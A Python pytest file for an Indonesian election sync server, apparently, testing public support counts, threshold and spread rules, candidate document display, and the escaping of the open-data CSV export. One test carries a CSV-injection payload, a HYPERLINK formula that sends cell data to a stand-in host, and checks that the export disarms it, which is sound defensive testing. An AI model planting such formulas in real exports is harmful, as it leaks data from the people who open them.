"""Public figures kept by the push path: deltas match a full recount, only human verdicts count."""

from __future__ import annotations

import datetime as dt
import uuid
from collections.abc import Iterator
from typing import Any

import orjson
import pytest
from sqlalchemy import select

from sync.protocol import Mutation, Op
from sync.server import audit
from sync.server.config import Clock
from sync.server.db import read_tx, write_tx
from sync.server.public import figures, views
from sync.server.push import apply_batch
from sync.server.roles import Actor, Role
from sync.server.schema import public_figures, public_records, public_state, records
from tests.public_seed import SCOPE, Seed, seed, verdict
from tests.unit.server.support import fresh_state

ADMIN = Actor("admin", Role.KPU_RI, "", "test")


@pytest.fixture
def state() -> Iterator[Any]:
    with fresh_state() as server:
        server.config.clock = Clock(dt.datetime(2024, 5, 6, tzinfo=dt.UTC))
        yield server


def _figures(state: Any) -> views.Figures:
    with read_tx(state.engine) as conn:
        return views.load_figures(conn)


def _edit(rid: str, version: int, changes: dict[str, Any], op: Op = Op.UPSERT) -> Mutation:
    return Mutation(str(uuid.uuid4()), "supporter", rid, SCOPE, op, version, {
        k: (None, v) for k, v in changes.items()
    })  # fmt: skip


def _seeded(state: Any) -> Seed:
    s = seed(12)
    apply_batch(state.engine, state.config, ADMIN, "seed", s.mutations)
    return s


def test_counts_follow_human_verdicts_not_the_automatic_check(state: Any) -> None:
    s = _seeded(state)
    cells = _figures(state)[s.independent_id]["submission"]
    totals = {n: sum(c[n] for c in cells.values()) for n in figures.COUNTS}
    # Seed statuses cycle MS, MS, BMS, TMS, "" while check_status is MS for all.
    assert totals == {"submitted": 12, "ms": 6, "bms": 2, "tms": 2, "pending": 2}
    assert set(cells) == {"32.14.01", "32.14.02", "32.14.03"}
    assert s.party_pair_id not in _figures(state)


def test_edits_deletes_and_rounds_move_the_counts_and_match_a_recount(state: Any) -> None:
    s = _seeded(state)
    pending = [r for r in s.supporters if r[5] == ""]
    ms = [r for r in s.supporters if r[5] == "MS"]
    batch = [
        # A field verdict overrides the administrative one.
        _edit(pending[0][0], 1, {**verdict("MS"), **verdict("TMS", "field")}),
        # The automatic forecast alone changes nothing.
        _edit(pending[1][0], 1, {"check_status": "TMS"}),
        # Moved to another kecamatan.
        _edit(ms[0][0], 1, {"kecamatan_code": "32.14.09"}),
        Mutation(str(uuid.uuid4()), "supporter", ms[1][0], SCOPE, Op.DELETE, 1),
    ]
    apply_batch(state.engine, state.config, ADMIN, "edits", batch)
    got = _figures(state)[s.independent_id]
    assert got["submission"]["32.14.09"] == {
        "submitted": 1, "ms": 1, "bms": 0, "tms": 0, "pending": 0
    }  # fmt: skip
    sub = {n: sum(c[n] for c in got["submission"].values()) for n in figures.COUNTS}
    assert sub == {"submitted": 11, "ms": 5, "bms": 2, "tms": 3, "pending": 1}
    with write_tx(state.engine) as conn:
        figures.rebuild(conn, 0.0)
    assert _figures(state)[s.independent_id] == got


def test_every_change_moves_the_version_and_public_records_hold_no_personal_fields(
    state: Any,
) -> None:
    s = _seeded(state)
    with read_tx(state.engine) as conn:
        before = conn.execute(select(public_state.c.version)).scalar_one()
        texts = [r.fields for r in conn.execute(select(public_records))]
    niks = s.candidate_niks
    assert texts and not any(any(n in t for n in niks) or "RAHASIA" in t for t in texts)
    apply_batch(state.engine, state.config, ADMIN, "e", [_edit(s.supporters[0][0], 1, {"rt": "1"})])
    apply_batch(
        state.engine,
        state.config,
        ADMIN,
        "f",
        [_edit(s.supporters[0][0], 2, verdict("TMS"))],
    )
    with read_tx(state.engine) as conn:
        after = conn.execute(select(public_state.c.version)).scalar_one()
        rows = conn.execute(select(public_figures)).all()
    # Only the verdict change touches the figures; the rt edit leaves the version.
    assert after == before + 1
    assert sum(r.submitted for r in rows) == 12


def test_support_against_threshold_and_spread_by_kabkota_for_governors() -> None:
    election = {"kind": "gubernur", "dpt": 1000, "subregion_count": 4, "rule_set": "pilkada-2024"}
    cell = {"submitted": 60, "ms": 60, "bms": 0, "tms": 0, "pending": 0}
    support = views.pair_support(
        election, {"submission": {"32.14.01": cell, "32.14.02": cell, "32.15.01": cell}}
    )
    assert set(support["subregions"]) == {"32.14", "32.15"}
    assert support["subregions"]["32.14"]["ms"] == 120
    assert support["threshold"] == 100  # 10% of 1,000 voters
    assert support["threshold_met"] is True
    assert support["spread_required"] == 3 and support["spread_met"] is False


def test_the_round_field_is_used_when_present_else_submission() -> None:
    base = {"pair_id": "p", "kecamatan_code": "32.14.01", "admin_status": "MS"}
    moved = {**base, "round": "correction_1", "admin_status": "BMS"}
    changed = figures.collect(
        [
            ("supporter", "a", base, False, None, False),
            ("supporter", "b", moved, False, base, False),
            ("supporter", "c", base, True, base, False),  # deleted
        ]
    )
    # a counts (+1), b leaves for correction_1 (-1), c is deleted (-1).
    submission = changed.figures[("p", "submission", "32.14.01")]
    assert {k: v for k, v in submission.items() if v} == {"submitted": -1, "ms": -1}
    # Stored as the desktop counts it: a correction round's verdict offers no BMS.
    assert dict(changed.figures[("p", "correction_1", "32.14.01")]) == {"submitted": 1, "tms": 1}


def test_public_reason_words_are_the_desktops_own_in_both_languages() -> None:
    """The citizen reads a reason as the operator's screen and print say it (one wording)."""
    import re
    from pathlib import Path

    from silon_desktop.domain.codes import ReasonCode
    from silon_desktop.domain.labels import REASON_LABELS_ID
    from sync.server.public import i18n

    ts = (Path(__file__).resolve().parents[3] / "resources/i18n/silon_en.ts").read_text("utf-8")
    for code in ReasonCode:
        assert i18n.reason(code.value, "id") == REASON_LABELS_ID[code]
        found = re.search(
            rf"<source>{re.escape(REASON_LABELS_ID[code])}</source>\s*<translation>(.*?)</translation>",
            ts,
        )
        assert found, code
        assert i18n.reason(code.value, "en") == found.group(1).replace("&apos;", "'"), code
    assert i18n.reason("SOMETHING_NEWER", "id") == "Alasan lain (SOMETHING_NEWER)"
    assert i18n.reason("SOMETHING_NEWER", "en") == "Other reason (SOMETHING_NEWER)"


def test_a_restore_counts_the_supporter_again_and_is_refused_where_it_makes_no_sense(
    state: Any,
) -> None:
    s = _seeded(state)
    rid = s.supporters[0][0]

    def submitted() -> int:
        cells = _figures(state)[s.independent_id]["submission"]
        return sum(c["submitted"] for c in cells.values())

    gone = Mutation(str(uuid.uuid4()), "supporter", rid, SCOPE, Op.DELETE, 1, {
        "withdrawn_reason": ("", "salah_input")
    })  # fmt: skip
    (done,) = apply_batch(state.engine, state.config, ADMIN, "b1", [gone])
    assert done.status.value == "applied" and submitted() == 11
    (back,) = apply_batch(state.engine, state.config, ADMIN, "b2", [_edit(rid, 1, {}, Op.RESTORE)])
    assert (back.status.value, back.version) == ("applied", 3) and submitted() == 12
    # The audit log rebuilds every state: live, withdrawn, live again.
    with read_tx(state.engine) as conn:
        states = audit.history(conn, rid)
    assert [(st.action, st.deleted) for st in states][-2:] == [
        ("delete", True),
        ("restore", False),
    ]
    assert states[-2].fields["withdrawn_reason"] == "salah_input"
    # Restoring a live row again changes nothing.
    (again,) = apply_batch(state.engine, state.config, ADMIN, "b3", [_edit(rid, 3, {}, Op.RESTORE)])
    assert (again.status.value, again.version) == ("applied", 3) and submitted() == 12
    # Not a supporter, or no such record: refused.
    pair = Mutation(str(uuid.uuid4()), "pair", s.independent_id, SCOPE, Op.RESTORE, 1, {})
    unknown = _edit(str(uuid.uuid4()), 1, {}, Op.RESTORE)
    refused = apply_batch(state.engine, state.config, ADMIN, "b4", [pair, unknown])
    assert [(r.status.value, r.code) for r in refused] == [
        ("rejected", "BAD_VALUE"),
        ("rejected", "BAD_VERSION"),
    ]


def _cells(codes: list[str], ms: int = 1) -> dict[str, dict[str, int]]:
    return {c: {"submitted": ms, "ms": ms, "bms": 0, "tms": 0, "pending": 0} for c in codes}


def test_without_dpt_or_subregion_count_the_requirement_is_not_known_never_met() -> None:
    """The desktop recap says "unknown" (None) here; the public figures must not say "met"."""
    election = {"kind": "bupati", "rule_set": "pilkada-2024", "dpt": None, "subregion_count": 0}
    support = views.pair_support(election, {"submission": _cells(["32.14.01"], ms=0)})
    assert (support["threshold"], support["threshold_met"]) == (None, None)
    assert (support["spread_required"], support["spread_met"]) == (None, None)
    assert (support["threshold_source"], support["spread_source"]) == (None, None)
    # The DPT alone gives the threshold; the spread stays unknown without the count.
    election["dpt"] = 733_927
    support = views.pair_support(election, {"submission": _cells(["32.14.01"], ms=0)})
    assert (support["threshold"], support["threshold_met"]) == (55_045, False)
    assert (support["spread_required"], support["spread_met"]) == (None, None)


def test_the_decree_figures_are_published_where_entered_kota_depok_2024() -> None:
    """Kota Depok 2024: the decree says 90,563, the law's rounding 90,564 (DOMAIN.md)."""
    election = {
        "kind": "walikota",
        "rule_set": "pilkada-2024",
        "dpt": 1_393_282,
        "subregion_count": 11,
        "official_threshold": 90_563,
        "official_spread": 6,
    }
    counts = (15_094, 15_094, 15_094, 15_094, 15_094, 15_093)  # 90,563 MS in 6 kecamatan
    cells = {
        f"32.76.{i:02d}": {"submitted": n, "ms": n, "bms": 0, "tms": 0, "pending": 0}
        for i, n in enumerate(counts, 1)
    }
    support = views.pair_support(election, {"submission": cells})
    assert support["totals"]["ms"] == 90_563
    assert (support["threshold"], support["threshold_source"]) == (90_563, "decree")
    assert support["threshold_met"] is True
    assert (support["spread_required"], support["spread_have"], support["spread_met"]) == (
        6,
        6,
        True,
    )
    req = views.requirement(election)
    assert (req.computed_threshold, req.computed_spread) == (90_564, 6)
    # Without a decree figure the computation is published, and said to be one.
    computed = views.requirement({**election, "official_threshold": None, "official_spread": 0})
    assert (computed.threshold, computed.threshold_source) == (90_564, "computed")
    assert (computed.spread, computed.spread_source) == (6, "computed")
    # The decree's figures reach the public copy of the election, and the open data.
    copied = orjson.loads(figures.public_copy("election", election))
    assert (copied["official_threshold"], copied["official_spread"]) == (90_563, 6)
    structure = views.Structure(
        elections={"e": {**election, "id": "e"}},
        pairs={"p": {"election_id": "e", "number": 1, "route": "perseorangan"}},
    )
    (doc,) = views.open_data(structure, {"p": {"submission": cells}}, {})
    assert (doc["threshold"], doc["threshold_source"], doc["threshold_computed"]) == (
        90_563,
        "decree",
        90_564,
    )
    assert doc["pairs"][0]["support"]["threshold_met"] is True


def test_supporters_without_an_area_are_no_area_of_the_spread() -> None:
    """8 kecamatan with MS and MS rows without a kecamatan: 8 areas, not 9 (of 17 needed 9)."""
    regency = {"kind": "bupati", "rule_set": "pilkada-2024", "dpt": 733_927, "subregion_count": 17}
    eight = [f"32.14.{i:02d}" for i in range(1, 9)]
    # "" : no kecamatan nor kab/kota; "32.14": only the kab/kota (subregion()'s fallback).
    support = views.pair_support(regency, {"submission": _cells([*eight, "", "32.14"])})
    assert support["totals"]["ms"] == 10
    assert (support["spread_have"], support["spread_required"], support["spread_met"]) == (
        8,
        9,
        False,
    )
    governor = {"kind": "gubernur", "rule_set": "pilkada-2024", "dpt": 1000, "subregion_count": 4}
    support = views.pair_support(governor, {"submission": _cells(["32.14.01", "32.15", ""])})
    assert support["spread_have"] == 2 and support["spread_met"] is False


def test_an_area_outside_the_elections_region_is_no_area_of_the_spread() -> None:
    """8 of Purwakarta's kecamatan with MS, and MS supporters living in Kec. Lembang of
    Kab. Bandung Barat: 8 areas of the 17 (9 needed), as the desktop's recap counts, not
    9 and "met". A governor election's kab/kota of another province likewise."""
    regency = {
        "kind": "bupati",
        "region_code": "32.14",
        "rule_set": "pilkada-2024",
        "dpt": 733_927,
        "subregion_count": 17,
    }
    eight = [f"32.14.{i:02d}" for i in range(1, 9)]
    support = views.pair_support(regency, {"submission": _cells([*eight, "32.17.01"])})
    assert support["totals"]["ms"] == 9 and "32.17.01" in support["subregions"]
    assert (support["spread_have"], support["spread_met"]) == (8, False)
    governor = {
        "kind": "gubernur",
        "region_code": "32",
        "rule_set": "pilkada-2024",
        "dpt": 1000,
        "subregion_count": 4,
    }
    support = views.pair_support(governor, {"submission": _cells(["32.14", "32.15", "33.01"])})
    assert (support["spread_have"], support["spread_required"], support["spread_met"]) == (
        2,
        3,
        False,
    )


def test_the_verdict_is_the_desktops_an_external_duplicate_counts_as_bms() -> None:
    from silon_desktop.domain.rules import PILKADA_2020

    flagged = {"external_duplicate": True}
    assert figures.verdict({"admin_status": "MS", **flagged}) == "bms"
    assert figures.verdict({"admin_status": "MS", "field_status": "MS", **flagged}) == "bms"
    assert figures.verdict({"admin_status": "TMS", **flagged}) == "tms"  # never better
    assert figures.verdict({"admin_status": "", **flagged}) == "pending"  # nobody decided
    assert figures.verdict({"admin_status": "MS", **flagged}, PILKADA_2020) == "bms"
    assert figures.verdict({"admin_status": "MS", "external_duplicate": False}) == "ms"


def test_a_nik_backing_two_pairs_leaves_the_ms_count_and_returns_when_withdrawn(
    state: Any,
) -> None:
    s = _seeded(state)
    ms_row = next(r for r in s.supporters if r[5] == "MS")
    # The same NIK, MS, in the other pair of the election: both rows are flagged.
    other = Mutation(str(uuid.uuid4()), "supporter", str(uuid.uuid4()), SCOPE, Op.UPSERT, 0, {
        k: (None, v) for k, v in {
            "pair_id": s.party_pair_id, "nik": ms_row[1], "name": "WARGA LAIN",
            "birth_date": ms_row[2], "kecamatan_code": "32.14.01", "kabkota_code": SCOPE,
            "admin_status": "MS",
        }.items()
    })  # fmt: skip
    (done,) = apply_batch(state.engine, state.config, ADMIN, "dup", [other])
    assert done.status.value == "applied"

    def totals(pair_id: str) -> dict[str, int]:
        cells = _figures(state).get(pair_id, {}).get("submission", {})
        return {n: sum(c[n] for c in cells.values()) for n in ("ms", "bms")}

    # Seed: 6 MS, 2 BMS; the flagged MS row is BMS now, as on the desktop.
    assert totals(s.independent_id) == {"ms": 5, "bms": 3}
    assert totals(s.party_pair_id) == {"ms": 0, "bms": 1}
    got = _figures(state)
    with write_tx(state.engine) as conn:
        figures.rebuild(conn, 0.0)
    assert _figures(state) == got  # the rebuild reads the same rule set, same counts
    # The other pair's row withdrawn: the flag goes, the supporter is MS again.
    with read_tx(state.engine) as conn:
        version = conn.execute(
            select(records.c.version).where(records.c.id == other.record_id)
        ).scalar_one()
    gone = Mutation(str(uuid.uuid4()), "supporter", other.record_id, SCOPE, Op.DELETE, version)
    (withdrawn,) = apply_batch(state.engine, state.config, ADMIN, "gone", [gone])
    assert withdrawn.status.value == "applied", withdrawn
    assert totals(s.independent_id) == {"ms": 6, "bms": 2}


def test_a_row_rechecked_away_from_ms_counts_its_admin_verdict_not_its_field_one(
    state: Any,
) -> None:
    s = _seeded(state)
    (first, *_) = [r for r in s.supporters if r[5] == "MS"]
    before = _figures(state)[s.independent_id]["submission"]
    ms_before = sum(c["ms"] for c in before.values())
    apply_batch(
        state.engine, state.config, ADMIN, "f", [_edit(first[0], 1, verdict("MS", "field"))]
    )
    apply_batch(state.engine, state.config, ADMIN, "a", [_edit(first[0], 2, verdict("TMS"))])
    got = _figures(state)[s.independent_id]
    totals = {n: sum(c[n] for c in got["submission"].values()) for n in figures.COUNTS}
    assert totals["ms"] == ms_before - 1 and totals["tms"] == 3  # the seed's two, and this
    assert figures.verdict({"admin_status": "TMS", "field_status": "MS"}) == "tms"
    with write_tx(state.engine) as conn:
        figures.rebuild(conn, 0.0)
    assert _figures(state)[s.independent_id] == got


def test_an_election_without_a_region_code_is_of_its_scope_as_on_the_desktop(
    state: Any,
) -> None:
    """The desktop's recap (and the server's checks) read an election's region as its
    region_code, else its scope: the public copy does the same, so the page and the
    berita acara count the spread over the same 17 kecamatan (Kab. Purwakarta)."""
    election = Mutation(str(uuid.uuid4()), "election", str(uuid.uuid4()), SCOPE, Op.UPSERT, 0, {
        "name": (None, "Tanpa kode wilayah"), "kind": (None, "bupati"), "dpt": (None, 733_927),
    })  # fmt: skip
    apply_batch(state.engine, state.config, ADMIN, "e", [election])

    def copy() -> dict[str, Any]:
        with read_tx(state.engine) as conn:
            text = conn.execute(
                select(public_records.c.fields).where(public_records.c.id == election.record_id)
            ).scalar_one()
        return dict(orjson.loads(text))

    assert copy()["region_code"] == SCOPE
    need = views.requirement(copy())
    assert (need.threshold, need.spread, need.subregions) == (55_045, 9, 17)
    with write_tx(state.engine) as conn:
        figures.rebuild(conn, 0.0)
    assert copy()["region_code"] == SCOPE


def test_the_decree_figures_are_published_under_a_rule_set_this_server_does_not_know() -> None:
    """An election of a newer program's rule set (or of a kind this one does not know):
    nothing is computed, and the KPU decree's figures are still what the page says."""
    newer = {"kind": "bupati", "rule_set": "pilkada-2029", "region_code": "32.14", "dpt": 900}
    need = views.requirement({**newer, "official_threshold": 70, "official_spread": 9})
    assert (need.threshold, need.threshold_source, need.computed_threshold) == (70, "decree", None)
    assert (need.spread, need.spread_source, need.computed_spread) == (9, "decree", None)
    assert views.requirement(newer).threshold is None
    odd = views.requirement({**newer, "rule_set": "pilkada-2024", "kind": "presiden",
                             "official_threshold": 70})  # fmt: skip
    assert (odd.threshold, odd.threshold_source) == (70, "decree")


def test_the_open_data_csv_never_hands_a_spreadsheet_a_formula() -> None:
    """dukungan.csv is opened in spreadsheets by the public; an election's name (typed
    by an operator) or a sub-region code (pushed by a client) starting with = + - @
    must show as text, never run (OWASP CSV injection), as the desktop's exports do."""
    import csv
    import io

    from sync.server.public.pages import open_data_csv

    name = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Unduh")'
    structure = views.Structure(
        elections={"e": {"id": "e", "name": name, "kind": "bupati", "rule_set": "pilkada-2024"}},
        pairs={"p": {"id": "p", "election_id": "e", "number": 1}},
    )
    cell = {"submitted": 1, "ms": 1, "bms": 0, "tms": 0, "pending": 0}
    raw = open_data_csv(structure, {"p": {"submission": {"@SUM(1)": cell}}})
    text = raw.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["election_name"] == "'" + name
    assert row["subregion_code"] == "'@SUM(1)"
    assert (row["pair_number"], row["ms"]) == ("1", "1")  # numbers stay numbers


def test_a_governors_supporters_count_in_the_kabkota_that_verifies_them(state: Any) -> None:
    """A governor election's spread is over kab/kota, and a supporter's kab/kota is its
    ``kabkota_code``: the KPU kab/kota that verifies it (its area) and the one the
    desktop's recap, the B.2-KWK the operator signs, counts it in. A row whose
    kecamatan code names another kab/kota (a client's input the server keeps) counts
    there too, and a row without a kab/kota code in no area, on the pages as well."""
    gov = {"kind": "gubernur", "region_code": "32", "dpt": 1000, "subregion_count": 27,
           "rule_set": "pilkada-2024", "name": "Pilgub"}  # fmt: skip

    def create(entity: str, changes: dict[str, Any]) -> Mutation:
        return Mutation(str(uuid.uuid4()), entity, str(uuid.uuid4()), "32", Op.UPSERT, 0, {
            k: (None, v) for k, v in changes.items()
        })  # fmt: skip

    election = create("election", gov)
    pair = create("pair", {"election_id": election.record_id, "number": 1})
    rows = [("32.14", "32.14.01"), ("32.14", "32.15.01"), ("", "32.16.01")]
    supporters = [
        create("supporter", {"pair_id": pair.record_id, "kabkota_code": kab,
                             "kecamatan_code": kec, **verdict("MS")})
        for kab, kec in rows
    ]  # fmt: skip
    apply_batch(state.engine, state.config, ADMIN, "g", [election, pair, *supporters])

    def support() -> dict[str, Any]:
        with read_tx(state.engine) as conn:
            structure, cells, _objections = views.load_all(conn)
        return views.pair_support(structure.elections[election.record_id], cells[pair.record_id])

    for _ in range(2):  # as the push path keeps them, then rebuilt from the records
        got = support()
        assert {code: c["ms"] for code, c in got["subregions"].items()} == {"32.14": 2, "": 1}
        assert got["spread_have"] == 1
        with write_tx(state.engine) as conn:
            figures.rebuild(conn, 0.0)


def _candidate_of(s: Seed, pair_id: str, role: str) -> str:
    return next(
        m.record_id
        for m in s.mutations
        if m.entity == "candidate"
        and m.changes["pair_id"][1] == pair_id
        and m.changes["role"][1] == role
    )


def _documents(state: Any, pair_id: str) -> dict[str, dict[str, Any]]:
    with read_tx(state.engine) as conn:
        structure = views.load_structure(conn)
    return {d["kind"]: d for d in views.pair_documents(structure, pair_id)}


def test_the_newest_copy_of_a_document_counts_not_the_best(state: Any) -> None:
    """A candidate hands in a second diploma after the first was found "sesuai"; the
    newer copy is found "tidak sesuai": the page said the diploma complete (the best
    status won). The copy changed last counts, whichever way: a newer accepted copy
    makes it complete again."""
    s = _seeded(state)
    head = _candidate_of(s, s.independent_id, "kepala")
    assert _documents(state, s.independent_id)["ijazah"]["complete"]
    newer = Mutation(str(uuid.uuid4()), "document", str(uuid.uuid4()), SCOPE, Op.UPSERT, 0, {
        "candidate_id": (None, head), "kind": (None, "ijazah"), "status": (None, "tidak_sesuai"),
    })  # fmt: skip
    apply_batch(state.engine, state.config, ADMIN, "newer", [newer])
    got = _documents(state, s.independent_id)["ijazah"]
    assert (got["head"], got["complete"]) == (["tidak_sesuai"], False)
    accepted = Mutation(str(uuid.uuid4()), "document", newer.record_id, SCOPE, Op.UPSERT, 1, {
        "status": ("tidak_sesuai", "sesuai"),
    })  # fmt: skip
    apply_batch(state.engine, state.config, ADMIN, "accepted", [accepted])
    got = _documents(state, s.independent_id)["ijazah"]
    assert (got["head"], got["complete"]) == (["sesuai"], True)


def test_two_candidates_of_one_role_are_both_shown_and_never_complete() -> None:
    """A pair recorded with two head candidates (data stored before the server refused
    the second): the page showed the documents of the one whose id sorts last and hid
    the other, so an accepted diploma of one could stand for both. Both are shown, and
    no requirement is complete while a role is held twice (said so on the page)."""
    structure = views.Structure(
        candidates={
            "c1": {"pair_id": "p", "role": "kepala"},
            "c2": {"pair_id": "p", "role": "kepala"},
            "c3": {"pair_id": "p", "role": "wakil"},
            "c4": {"pair_id": "q", "role": "kepala"},
        },
        documents=[
            {"candidate_id": "c1", "kind": "ijazah", "status": "tidak_sesuai"},
            {"candidate_id": "c2", "kind": "ijazah", "status": "sesuai"},
            {"candidate_id": "c3", "kind": "ijazah", "status": "sesuai"},
        ],
    )
    got = {d["kind"]: d for d in views.pair_documents(structure, "p")}
    assert (got["ijazah"]["head"], got["ijazah"]["deputy"]) == (
        ["tidak_sesuai", "sesuai"],
        ["sesuai"],
    )
    assert not any(d["complete"] for d in got.values())
    assert got["skck"]["head"] == ["belum", "belum"]
    assert views.roles_held_twice(structure, "p") == ["kepala"]
    assert views.roles_held_twice(structure, "q") == []
    assert {d["kind"]: d for d in views.pair_documents(structure, "q")}["ijazah"]["deputy"] == [
        "belum"
    ]


def test_the_pair_page_and_open_data_say_a_role_is_held_twice(state: Any) -> None:
    from sync.server.public.pages import Public, Stamp

    structure = views.Structure(
        elections={"e": {"id": "e", "name": "Pilbup", "kind": "bupati"}},
        pairs={"p": {"id": "p", "election_id": "e", "number": 1, "route": "partai"}},
        candidates={
            "c1": {"pair_id": "p", "role": "kepala"},
            "c2": {"pair_id": "p", "role": "kepala"},
        },
        documents=[
            {"candidate_id": "c1", "kind": "ijazah", "status": "tidak_sesuai"},
            {"candidate_id": "c2", "kind": "ijazah", "status": "sesuai"},
        ],
    )
    stamp = Stamp(1, 1, 0.0, 0, "0" * 64)
    page = Public(state).render(
        "pair.html", "id", stamp, e=structure.elections["e"], p=structure.pairs["p"],
        pair_id="p", docs=views.pair_documents(structure, "p"),
        held_twice=views.roles_held_twice(structure, "p"),
        support=views.pair_support(structure.elections["e"], {}), charts=[], progress="",
        names={}, parties=[], objections=(0, 0),
    ).decode("utf-8")  # fmt: skip
    assert 'id="roles-held-twice"' in page
    assert "Tidak sesuai / Sesuai" in page
    (pair,) = views.open_data(structure, {}, {})[0]["pairs"]
    assert pair["roles_held_twice"] == ["kepala"]
    assert not any(pair["documents"].values())
